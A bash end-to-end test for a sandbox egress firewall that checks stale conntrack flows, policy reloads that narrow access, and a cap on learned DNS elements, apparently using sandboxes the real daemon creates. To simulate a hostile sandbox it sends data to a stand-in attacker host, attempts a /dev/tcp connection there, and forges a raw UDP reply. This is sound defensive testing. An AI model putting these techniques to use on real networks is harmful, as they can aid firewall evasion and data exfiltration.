#!/bin/bash
# t_hostile_state.sh: no state of one sandbox reaches the next, a
# narrowing reload takes effect at once, and one sandbox cannot fill the
# learned sets.
#
# Three ways a hostile sandbox kept or gained reach that its policy no
# longer gives: (1) the conntrack entry of a removed sandbox carried the
# next sandbox on the same address (same link, same source port) to a
# destination only the first one was allowed, as an established flow;
# (2) a reload that removed an allowed name left its learned element and
# the flows through it alive until they expired; (3) a wildcard name the
# attacker answers filled the shared learned sets. Each is tried from
# inside sandboxes the real daemon made, and judged by what the far side
# saw (the attacker's and the web server's logs) and by the kernel's
# tables (conntrack -L, nft list).
. "$(dirname "$0")/lib.sh"
. "$E2E_DIR/world.sh"
require_root

for t in jq nft dig python3 conntrack; do
	command -v "$t" >/dev/null || { not_ok "$t is installed"; finish; }
done

world_up || { not_ok "world_up"; finish; }
POL=$E2E_TMP/policies
mkdir -p "$POL"
cat >"$POL/st-udp.yaml" <<-'P'
	version: 1
	name: st-udp
	egress:
	  allow:
	    - cidr: 198.51.100.66/32
	      protocol: udp
	      ports: [9999]
P
cat >"$POL/st-none.yaml" <<-'P'
	version: 1
	name: st-none
	egress:
	  allow:
	    - cidr: 192.0.2.10/32
	      ports: [80]
P
cat >"$POL/st-name.yaml" <<-'P'
	version: 1
	name: st-name
	egress:
	  allow:
	    - host: evil.example.net
	      ports: [22]
	    - host: pkg.example.com
	      ports: [80]
P
cat >"$POL/st-wild.yaml" <<-'P'
	version: 1
	name: st-wild
	egress:
	  allow:
	    - host: "*.example.com"
	      ports: [443]
	    - host: "*.example.org"
	      ports: [443]
	    - host: "*.example.net"
	      ports: [443]
P
CAP=3
world_sluiced_config "$E2E_TMP/sluice.yaml" "$POL"
# A daemon without the key (an older build, for the fails-before run)
# refuses it: it gets the default, and the cap's assertions fail.
if grep -q max_learned "$SLUICED"; then
	sed -i "s/^  timeout_ms: 2000$/  timeout_ms: 2000\n  max_learned: $CAP/" \
	    "$E2E_TMP/sluice.yaml"
	grep -q "max_learned: $CAP" "$E2E_TMP/sluice.yaml" || { not_ok "config"; finish; }
fi
world_start_sluiced "$E2E_TMP/sluice.yaml" || { not_ok "sluiced starts"; finish; }

sl() { world_host "$SLUICE" -s "$WORLD_SOCK" "$@"; }
A=st$$-a
B=st$$-b
N=st$$-n
W=st$$-w
mk() {
	sl sandbox create --policy "$2" --id "$1" >"$E2E_TMP/$1.json" &&
	    test "$(jq -r .id "$E2E_TMP/$1.json")" = "$1"
}
addr() { jq -r .address "$E2E_TMP/$1.json" | cut -d/ -f1; }
ifname() { jq -r .interface "$E2E_TMP/$1.json"; }
sbx() { world_sandbox "$@"; }
# ct_of ADDR: conntrack entries in the host namespace whose original
# source is ADDR.
ct_of() { world_host conntrack -L -s "$1" 2>/dev/null | grep -c "src=$1 "; }
# learned IFNAME ADDR: learned elements of link IFNAME (to ADDR if given).
learned() {
	world_host nft -j list set inet sluice learned4 2>/dev/null |
	    jq -r '.. | objects | select(has("concat")) | .concat | map(tostring) | join(" ")' |
	    grep "^$1 ${2:-}" | grep -c .
}
# udp_from ID SPORT DATA: one datagram from ID's port SPORT to the sink.
udp_from() {
	sbx "$1" python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", int(sys.argv[1])))
s.sendto(sys.argv[2].encode(), ("198.51.100.66", 9999))' "$2" "$3"
}
# reply_to PORT: a datagram from the sink's address and port back to the
# host's masqueraded address (what a real peer answers): the flow becomes
# established in conntrack.
reply_to() {
	world_inet python3 -c '
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
s.bind(("198.51.100.66", 0))
d = b"pong"
s.sendto(struct.pack("!HHHH", 9999, int(sys.argv[1]), 8 + len(d), 0) + d,
    ("203.0.113.1", 0))' "$1"
}

# ------------------------------------------------ 2: nothing survives
SPORT=40123
check "A (udp to the sink) created" mk "$A" st-udp
AA=$(addr "$A")
world_attacker_clear
udp_from "$A" $SPORT "st$$-from-a"
reply_to $SPORT
world_attacker_sync
check_match "A reaches the sink from port $SPORT" "st$$-from-a" \
    "$(world_attacker_log | grep "st$$-from-a" | head -n 1)"
check "conntrack holds A's flow" test "$(ct_of "$AA")" -ge 1
check "sandbox rm A" sl sandbox rm "$A"
check_eq "no conntrack entry of A's address after rm" 0 "$(ct_of "$AA")"
check_eq "no learned element of A's link after rm" 0 \
    "$(learned "$(ifname "$A" 2>/dev/null || echo none)")"
check "B (no udp) created" mk "$B" st-none
check_eq "B has A's address" "$AA" "$(addr "$B")"
world_attacker_clear
udp_from "$B" $SPORT "st$$-from-b"
world_attacker_sync
check_eq "B does not reach the sink through A's flow" "" \
    "$(world_attacker_log | grep "st$$-from-b")"
sl sandbox rm "$B" >/dev/null 2>&1

# ------------------------------------------------ 3: narrowing at once
check "N (names) created" mk "$N" st-name
NI=$(ifname "$N")
check_eq "N resolves evil.example.net" 198.51.100.66 \
    "$(sbx "$N" dig +short +time=2 +tries=1 @"$WORLD_SERVICE" evil.example.net A)"
check "the element of evil.example.net is learned" \
    test "$(learned "$NI" 198.51.100.66)" -ge 1
# A connection held open across the reload: "before" is sent at once,
# "after" once the reload returned, then it closes. The attacker's TCP
# sink logs what it got when the connection ends (or after 5 s idle).
world_attacker_clear
GO=$E2E_TMP/go
sbx "$N" timeout 30 python3 -c '
import socket, sys, os, time
s = socket.create_connection(("198.51.100.66", 22), timeout=5)
s.sendall(b"before-" + sys.argv[1].encode())
t = time.time() + 20
while not os.path.exists(sys.argv[2]) and time.time() < t:
    time.sleep(0.02)
try:
    s.sendall(b"-after")
    time.sleep(0.5)
    s.close()
except OSError:
    pass' "st$$" "$GO" >/dev/null 2>&1 &
HOLD=$!
cleanup_push "kill $HOLD 2>/dev/null"
wait_for 10 sh -c "grep -q '\"tcp-open\".*\"dport\":22' '$WORLD_DIR/log/attacker.log'"
check_match "N holds a connection to evil.example.net" '"dport":22' \
    "$(world_attacker_log | grep tcp-open | head -n 1)"
sed -i '/evil.example.net/,+1d' "$POL/st-name.yaml"
check "reload without evil.example.net" sl reload
touch "$GO"
check_eq "learned element of evil.example.net gone right after reload" 0 \
    "$(learned "$NI" 198.51.100.66)"
check_fails "a new connection to evil.example.net's address fails" \
    sbx "$N" timeout 3 bash -c 'exec 3<>/dev/tcp/198.51.100.66/22'
wait "$HOLD" 2>/dev/null
wait_for 10 sh -c "grep -q 'before-st$$' '$WORLD_DIR/log/attacker.log'"
got=$(world_attacker_log | grep "before-st$$" | head -n 1)
check_match "the sink logged the held connection" "before-st$$" "$got"
check_eq "the held connection is cut (its write after reload never arrived)" "" \
    "$(printf '%s' "$got" | grep -- -after)"
check_eq "N still resolves pkg.example.com" 192.0.2.10 \
    "$(sbx "$N" dig +short +time=2 +tries=1 @"$WORLD_SERVICE" pkg.example.com A)"
check "N still reaches pkg.example.com" sbx "$N" curl -s -o /dev/null -m 3 \
    -H "Host: pkg.example.com" http://192.0.2.10/
sl sandbox rm "$N" >/dev/null 2>&1

# ------------------------------------------------ 6: the learn cap
check "W (wildcards) created" mk "$W" st-wild
WI=$(ifname "$W")
q() { sbx "$W" dig +time=2 +tries=1 @"$WORLD_SERVICE" "$1" A; }
for n in pkg.example.com web.example.org evil.example.net; do
	check_match "W resolves $n (under the cap)" "status: NOERROR" "$(q $n)"
done
check_eq "W has $CAP learned elements" "$CAP" "$(learned "$WI")"
check_match "past the cap: SERVFAIL" "status: SERVFAIL" "$(q mcp.example.com)"
check_match "again past the cap: SERVFAIL" "status: SERVFAIL" "$(q mcp.example.com)"
check "W's learned elements never exceed the cap" test "$(learned "$WI")" -le "$CAP"
check_match "a name W has learned still resolves" "status: NOERROR" "$(q pkg.example.com)"
DB=$WORLD_DIR/state/audit.db
wait_for 10 sh -c "SLUICE_AUDIT_DB='$DB' '$SLUICE' audit tail --kind finding 2>/dev/null | grep -q dns_learned_cap"
F=$(SLUICE_AUDIT_DB=$DB "$SLUICE" audit tail --kind finding 2>/dev/null | grep dns_learned_cap)
check_match "a learned-cap finding is recorded for W" "$W" "$F"
check_eq "one finding, not one per answer" 1 "$(printf '%s\n' "$F" | grep -c .)"
sl sandbox rm "$W" >/dev/null 2>&1
finish
